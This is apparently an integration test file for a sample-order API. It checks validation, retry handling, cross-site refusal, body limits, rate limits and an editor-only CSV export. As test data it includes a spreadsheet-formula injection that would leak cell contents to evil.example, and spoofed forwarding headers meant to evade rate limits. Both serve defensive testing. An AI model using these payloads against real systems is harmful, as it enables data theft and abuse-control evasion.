import http from 'node:http'
import { beforeAll, describe, expect, it } from 'vitest'
import { baseUrl, editorToken, fetchFrom, freshLoopbackAddress } from '../helpers/http'

const RUN = `${Date.now()}`
const REFERENCE = /^SO-[A-Z2-9]{4}-[A-Z2-9]{4}$/
const LIMIT = Number(process.env.SAMPLE_ORDER_RATE_LIMIT ?? 10)

let token: string

type Client = ReturnType<typeof fetchFrom>

/**
 * The server reads the caller's address from the socket, so each request connects from a loopback
 * address of its own and the per-address limit never couples one test to another. The server keeps
 * its counts for a window; the addresses differ from run to run.
 */
const freshClient = (): Client => fetchFrom(freshLoopbackAddress())

/** Unique per run and per test too: the server also limits orders per email address. */
const emailFor = (marker: string) => `ana.${RUN}.${marker}@bistro.example`

const order = (marker: string, overrides: Record<string, unknown> = {}) => ({
  firstName: 'Ana',
  lastName: `Sample test ${RUN} ${marker}`,
  email: emailFor(marker),
  phone: '+1 212 555 0134',
  phoneExtension: '12',
  businessName: 'Bistro Ana',
  businessType: 'restaurant',
  street: '12 Main St',
  street2: '',
  city: 'New York',
  state: 'NY',
  postcode: '10001',
  country: 'US',
  items: ['TF-10001', 'TF-10002'],
  regionId: 'us',
  locale: 'en',
  idempotencyKey: crypto.randomUUID(),
  ...overrides,
})

async function post(
  body: unknown,
  {
    client = freshClient(),
    headers = {},
  }: { client?: Client; headers?: Record<string, string> } = {},
): Promise<{ status: number; body: Record<string, unknown>; headers: Headers }> {
  const response = await client('/api/sample-bag/orders', {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
  return {
    status: response.status,
    body: (await response.json()) as Record<string, unknown>,
    headers: response.headers,
  }
}

interface StoredOrder {
  reference: string
  regionTag: string
  locale: string
  items: { sku: string }[]
  contact: { email: string; phone: string; lastName: string }
  shippingAddress: { street: string; country: string }
}

/** The stored orders whose last name carries the marker, read as the demo editor through the CMS REST API. */
async function storedOrders(marker: string): Promise<StoredOrder[]> {
  const query = new URLSearchParams({
    'where[contact.lastName][equals]': `Sample test ${RUN} ${marker}`,
    depth: '0',
    limit: '100',
  })
  const response = await fetch(`${baseUrl()}/api/sample-orders?${query}`, {
    headers: { authorization: `JWT ${token}` },
  })
  expect(response.status).toBe(200)
  return ((await response.json()) as { docs: StoredOrder[] }).docs
}

beforeAll(async () => {
  token = await editorToken()
})

describe('POST /api/sample-bag/orders', () => {
  it('stores a valid order and answers 201 with its reference', async () => {
    const { status, body, headers } = await post(order('valid'))
    expect(status).toBe(201)
    expect(body.reference).toMatch(REFERENCE)
    expect(headers.get('cache-control')).toBe('no-store')
    const docs = await storedOrders('valid')
    expect(docs).toHaveLength(1)
    expect(docs[0]).toMatchObject({
      reference: body.reference,
      regionTag: 'regionUs',
      locale: 'en',
      items: [{ sku: 'TF-10001' }, { sku: 'TF-10002' }],
      contact: { email: emailFor('valid'), phone: '+12125550134' },
      shippingAddress: { country: 'US' },
    })
  })

  it('keeps orders from anonymous readers of the CMS API', async () => {
    const response = await fetch(`${baseUrl()}/api/sample-orders?limit=1`)
    expect([401, 403]).toContain(response.status)
    const text = await response.text()
    expect(text).not.toContain('bistro.example')
  })

  it('answers a retry with the same key with the same reference, and stores one order', async () => {
    const body = order('retry')
    const first = await post(body)
    const second = await post(body)
    expect(first.status).toBe(201)
    expect(second.status).toBe(200)
    expect(second.body.reference).toBe(first.body.reference)
    expect(await storedOrders('retry')).toHaveLength(1)
  })

  it('stores one order when the same key is sent twice at once', async () => {
    const body = order('race')
    const answers = await Promise.all([post(body), post(body)])
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 201])
    expect(answers[0]?.body.reference).toBe(answers[1]?.body.reference)
    expect(await storedOrders('race')).toHaveLength(1)
  })

  it('names each missing field with "This field is required"', async () => {
    const { status, body } = await post({
      ...order('missing'),
      firstName: '',
      email: undefined,
      phone: '  ',
      city: undefined,
      country: undefined,
    })
    expect(status).toBe(422)
    expect(body.errors).toEqual({
      firstName: 'This field is required',
      email: 'This field is required',
      phone: 'This field is required',
      city: 'This field is required',
      country: 'This field is required',
    })
    expect(await storedOrders('missing')).toHaveLength(0)
  })

  it("answers in the order's locale, and in English for a locale the site does not know", async () => {
    const spanish = await post({ ...order('spanish'), locale: 'es', firstName: '', email: 'nope' })
    expect(spanish.status).toBe(422)
    expect(spanish.body.errors).toEqual({
      firstName: 'Este campo es obligatorio',
      email: 'Dirección de correo electrónico no válida',
    })
    const unknown = await post({ ...order('unknown-locale'), locale: 'xx' })
    expect(unknown.status).toBe(422)
    expect(unknown.body.errors).toEqual({ locale: 'This value is not valid' })
  })

  it('refuses an email at a blocked domain, its subdomains and any letter case', async () => {
    for (const email of [`chef.${RUN}@mailinator.com`, `chef.${RUN}@Mail.Example-Blocked.COM`]) {
      const { status, body } = await post(order('blocked', { email }))
      expect(status, email).toBe(422)
      expect(body).toEqual({ errors: { email: 'The specified email address is not allowed' } })
    }
    expect(await storedOrders('blocked')).toHaveLength(0)
  })

  it('refuses skus that do not exist, that the region lacks or that offer no samples', async () => {
    // TF-10010 is not sold in the US; TF-10013 does not offer samples.
    for (const items of [['TF-10001', 'TF-99999'], ['TF-10010'], ['TF-10013']]) {
      const { status, body } = await post(
        order('skus', { items, email: emailFor(`skus-${items.join('-')}`) }),
      )
      expect(status, items.join()).toBe(422)
      expect(body).toEqual({
        errors: {
          items:
            'Some products in your sample bag are not offered as samples in your region. Remove them and try again.',
        },
      })
    }
    expect(await storedOrders('skus')).toHaveLength(0)
  })

  it("refuses more items than the region's maximum", async () => {
    const items = ['TF-10001', 'TF-10002', 'TF-10003', 'TF-10004', 'TF-10005', 'TF-10006']
    const { status, body } = await post(order('too-many', { items }))
    expect(status).toBe(422)
    expect(body).toEqual({
      errors: { items: 'Sorry, you have already added the max number of samples to your bag' },
    })
    expect(await storedOrders('too-many')).toHaveLength(0)
  })

  it('refuses a 10 MB body with 413', async () => {
    const huge = JSON.stringify(order('huge', { street2: 'x'.repeat(10 * 1024 * 1024) }))
    const { status, body } = await post(huge)
    expect(status).toBe(413)
    expect(body.message).toMatch(/64 KB/)
    expect(await storedOrders('huge')).toHaveLength(0)
  })

  it('refuses a 10 MB streamed body that declares no length, without waiting for all of it', async () => {
    const answer = await postStreamed(10 * 1024 * 1024)
    expect(answer.status).toBe(413)
    expect(JSON.parse(answer.body)).toEqual({ message: expect.stringMatching(/64 KB/) })
  })

  it('answers 400 to a body that is not a JSON object', async () => {
    for (const body of ['{"firstName":', '[]', 'null']) {
      const answer = await post(body)
      expect(answer.status, body).toBe(400)
      expect(typeof answer.body.message).toBe('string')
    }
  })

  it('refuses an order not sent as JSON with 415 and stores nothing', async () => {
    // A form or text/plain post is a simple request: any other site could make its visitors' browsers send it.
    for (const type of [
      'text/plain',
      'text/plain;charset=UTF-8',
      'application/x-www-form-urlencoded',
    ]) {
      const { status, body } = await post(order('plain'), { headers: { 'content-type': type } })
      expect(status, type).toBe(415)
      expect(typeof body.message).toBe('string')
    }
    expect(await storedOrders('plain')).toHaveLength(0)
  })

  it('refuses an order from a page of another site with 403 and stores nothing', async () => {
    const crossSite: Record<string, string>[] = [
      { origin: 'https://evil.example' },
      { 'sec-fetch-site': 'cross-site' },
      { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
      { origin: 'null' },
    ]
    for (const headers of crossSite) {
      const { status, body } = await post(order('cross-site'), { headers })
      expect(status, JSON.stringify(headers)).toBe(403)
      expect(typeof body.message).toBe('string')
    }
    expect(await storedOrders('cross-site')).toHaveLength(0)
  })

  it('takes an order a browser marks as sent from the site itself', async () => {
    const headers = { 'sec-fetch-site': 'same-origin', origin: new URL(baseUrl()).origin }
    expect((await post(order('same-origin'), { headers })).status).toBe(201)
  })

  it('refuses a changed order under a retry key already used with 422, and keeps the first', async () => {
    const first = order('changed')
    const placed = await post(first)
    expect(placed.status).toBe(201)
    const changed = await post({ ...first, street: '99 Other St', items: ['TF-10001'] })
    expect(changed.status).toBe(422)
    expect(changed.body).toEqual({
      message:
        'This request was already used for an order with different details, so nothing was changed. Please place your changed order as a new order.',
    })
    const spanish = await post({ ...first, locale: 'es' })
    expect(spanish.status).toBe(422)
    expect(spanish.body.message).toMatch(/^Esta solicitud ya se usó/)
    const retry = await post(first)
    expect(retry.status).toBe(200)
    expect(retry.body.reference).toBe(placed.body.reference)
    const docs = await storedOrders('changed')
    expect(docs).toHaveLength(1)
    expect(docs[0]).toMatchObject({
      reference: placed.body.reference,
      locale: 'en',
      items: [{ sku: 'TF-10001' }, { sku: 'TF-10002' }],
      shippingAddress: { street: '12 Main St' },
    })
  })

  it.skipIf(LIMIT <= 0)('limits requests per client address with 429 and Retry-After', async () => {
    const client = freshClient()
    for (let i = 0; i < LIMIT; i++) expect((await post({}, { client })).status).toBe(422)
    const limited = await post(order('limited'), { client })
    expect(limited.status).toBe(429)
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(typeof limited.body.message).toBe('string')
    expect(await storedOrders('limited')).toHaveLength(0)
    expect((await post(order('other-address'))).status).toBe(201)
  })

  it.skipIf(LIMIT <= 0)(
    'does not let a spoofed x-forwarded-for reset the per-address limit',
    async () => {
      const client = freshClient()
      for (let i = 0; i < LIMIT; i++) {
        expect(
          (await post({}, { client, headers: { 'x-forwarded-for': `198.51.100.${i + 1}` } }))
            .status,
        ).toBe(422)
      }
      const spoofed = await post(order('spoofed'), {
        client,
        headers: {
          'x-forwarded-for': '203.0.113.9',
          'x-real-ip': '203.0.113.9',
          'x-client-address': '203.0.113.9',
        },
      })
      expect(spoofed.status).toBe(429)
      expect(await storedOrders('spoofed')).toHaveLength(0)
    },
  )

  it.skipIf(LIMIT <= 0)(
    'limits stored orders per email address, from any client address and in any letter case',
    async () => {
      // Refused for their products (TF-10013 offers no samples), these spend nothing.
      for (let i = 0; i < 3; i++) {
        const { status, body } = await post(order('per-email', { items: ['TF-10013'] }))
        expect(status).toBe(422)
        expect(body.errors).toHaveProperty('items')
      }
      for (let i = 0; i < LIMIT; i++) expect((await post(order('per-email'))).status).toBe(201)
      const limited = await post(
        order('per-email', { email: ` ${emailFor('per-email').toUpperCase()} ` }),
      )
      expect(limited.status).toBe(429)
      expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0)
      expect(limited.body.message).toMatch(/email address/)
      expect(await storedOrders('per-email')).toHaveLength(LIMIT)
      expect((await post(order('other-email'))).status).toBe(201)
    },
  )
})

describe('GET /api/sample-orders/export.csv', () => {
  const exportCsv = (headers: Record<string, string> = {}) =>
    fetch(`${baseUrl()}/api/sample-orders/export.csv`, { headers })

  it('refuses anonymous callers with 403', async () => {
    const response = await exportCsv()
    expect(response.status).toBe(403)
    expect(await response.text()).not.toContain('bistro.example')
  })

  it('sends editors the orders as CSV, a formula a visitor typed neutralised', async () => {
    const formula = `=HYPERLINK("https://evil.example/?leak="&A1,"Bistro ${RUN}")`
    const placed = await post(order('formula', { businessName: formula }))
    expect(placed.status).toBe(201)
    const response = await exportCsv({ authorization: `JWT ${token}` })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="sample-orders.csv"',
    )
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    const row = (await response.text())
      .split('\r\n')
      .find((line) => line.startsWith(`${placed.body.reference},`))
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Bistro ${RUN}"")"`)
    expect(row).toContain(emailFor('formula'))
    expect(row).not.toMatch(/(^|,)"?=/)
  })
})

/** Streams `size` bytes in chunks (no content-length) and resolves on the answer, whenever it comes. */
function postStreamed(size: number): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const request = http.request(new URL('/api/sample-bag/orders', baseUrl()), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      localAddress: freshLoopbackAddress(),
    })
    let answered = false
    request.on('response', (response) => {
      answered = true
      let body = ''
      response.setEncoding('utf8')
      response.on('data', (chunk: string) => (body += chunk))
      response.on('end', () => {
        resolve({ status: response.statusCode ?? 0, body })
        request.destroy()
      })
    })
    request.on('error', (error) => {
      if (!answered) reject(error)
    })
    const chunk = Buffer.alloc(64 * 1024, 'x')
    let sent = 0
    request.write('{"street2":"')
    const pump = () => {
      while (sent < size && !answered) {
        sent += chunk.length
        if (!request.write(chunk)) return void request.once('drain', pump)
      }
      if (!answered) request.end('"}')
    }
    pump()
  })
}
